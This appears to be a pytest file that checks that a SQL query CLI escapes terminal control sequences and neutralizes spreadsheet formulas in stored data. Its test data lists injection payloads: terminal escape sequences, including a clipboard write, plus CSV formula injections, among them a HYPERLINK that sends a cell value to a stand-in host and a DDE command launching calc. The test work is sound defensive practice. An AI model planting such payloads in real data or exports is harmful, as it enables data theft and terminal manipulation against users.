"""`sqlmode query` prints stored data, never obeys it (issue 18 item 5): the bytes on stdout are checked."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from sqlmode.models import ColumnMeta, QueryResult
from sqlmode.output import format_csv, format_table, safe_json, terminal_safe
from tests.plugins.sample import TEST_TOKEN_SECRET

# Stored in products.name by the fixture, id 1..N in this order.
HOSTILE = [
    "\x1b]0;pwned\x07title",  # window title (OSC 0)
    "\x1b[2J\x1b[Hcleared",  # clear screen
    "\x1b]52;c;ZWNobyBwd25lZA==\x07clip",  # clipboard write (OSC 52)
    "\x9b31mC1 CSI",  # 8-bit CSI
    "safe\u202eevil",  # bidi override
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "-42",
]
UNSAFE_BYTES = [b"\x1b", b"\x07", b"\xc2\x9b", "\u202e".encode()]


@pytest.fixture
def hostile_config(tmp_path: Path, sample_duckdb_path: Path) -> Path:
    from sqlmode.config import sample_config_path

    db = tmp_path / "hostile.duckdb"
    shutil.copyfile(sample_duckdb_path, db)
    with duckdb.connect(str(db)) as con:
        for i, name in enumerate(HOSTILE, 1):
            con.execute("UPDATE products SET name = ? WHERE id = ?", [name, i])
    text = sample_config_path().read_text()
    text = text.replace(
        'url = "duckdb:///${SQLMODE_SAMPLE_DB:-~/.cache/sqlmode/sample-v1.duckdb}"', f'url = "duckdb:///{db}"'
    ).replace("build_sample = true", "build_sample = false")
    text = text.replace('token_secret = "${CODE_MODE_SECRET:-}"', f'token_secret = "{TEST_TOKEN_SECRET}"')
    text = text.replace(
        'path = "${SQLMODE_AUDIT_LOG:-~/.cache/sqlmode/audit.jsonl}"', f'path = "{tmp_path / "audit.jsonl"}"'
    )
    p = tmp_path / "sqlmode.toml"
    p.write_text(text)
    return p


def run_query(config: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SQLMODE_")}
    sql = f"SELECT id, name FROM products WHERE id <= {len(HOSTILE)} ORDER BY id"
    return subprocess.run(
        [sys.executable, "-m", "sqlmode", "query", "--config", str(config), "--yes", *args, sql],
        capture_output=True,
        env=env,
        timeout=60,
    )


def test_table_output_carries_no_terminal_control(hostile_config: Path) -> None:
    r = run_query(hostile_config)
    assert r.returncode == 0, r.stderr
    for bad in UNSAFE_BYTES:
        assert bad not in r.stdout and bad not in r.stderr
    out = r.stdout.decode()
    for shown in [
        "\\x1b]0;pwned\\x07title",
        "\\x1b]52;c;ZWNobyBwd25lZA==\\x07clip",
        "\\x9b31mC1 CSI",
        "safe\\u202eevil",
    ]:
        assert shown in out
    # One line per row: an embedded newline or carriage return cannot break the table.
    table = out[out.index("id | ") :]
    assert len(table.strip().splitlines()) == 2 + len(HOSTILE) + 1


def test_json_output_is_the_same_data_without_raw_controls(hostile_config: Path) -> None:
    r = run_query(hostile_config, "--format", "json")
    assert r.returncode == 0, r.stderr
    for bad in UNSAFE_BYTES:
        assert bad not in r.stdout
    assert [row[1] for row in json.loads(r.stdout)["rows"]] == HOSTILE


def test_csv_neutralizes_formulas_by_default_and_keeps_them_raw_on_request(hostile_config: Path) -> None:
    safe = run_query(hostile_config, "--format", "csv")
    assert safe.returncode == 0, safe.stderr
    cells = [row[1] for row in csv.reader(io.StringIO(safe.stdout.decode(), newline=""))][1:]
    for stored, cell in zip(HOSTILE, cells, strict=True):
        formula = stored[0] in "=+-@\t\r" and stored != "-42"
        assert cell == ("'" + stored if formula else stored)
    raw = run_query(hostile_config, "--format", "csv", "--csv-raw")
    assert [row[1] for row in csv.reader(io.StringIO(raw.stdout.decode(), newline=""))][1:] == HOSTILE


def result(name: str, value: object) -> QueryResult:
    return QueryResult(
        columns=[ColumnMeta(name=name, type="VARCHAR")],
        rows=[[value]],
        row_count=1,
        truncated=False,
        elapsed_ms=1.0,
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\nb", "a\\x0ab"),
        ("\x00\x7f", "\\x00\\x7f"),
        ("\u2028\u200b\ufeff", "\\u2028\\u200b\\ufeff"),
        ("\U000e0041tag", "\\U000e0041tag"),
        ("café 東京 😀", "café 東京 😀"),
    ],
)
def test_terminal_safe_escapes_every_control_and_format_character(text: str, shown: str) -> None:
    assert terminal_safe(text) == shown
    table = format_table(result(text, text))
    assert table.splitlines()[0].strip() == shown and shown in table.splitlines()[2]
    assert json.loads(safe_json(json.dumps({"v": text}, ensure_ascii=False))) == {"v": text}


def test_csv_header_and_json_cells_are_neutralized_too() -> None:
    out = format_csv(result("=cmd", {"a": "=1"}))
    assert list(csv.reader(io.StringIO(out))) == [["'=cmd"], ['{"a": "=1"}']]
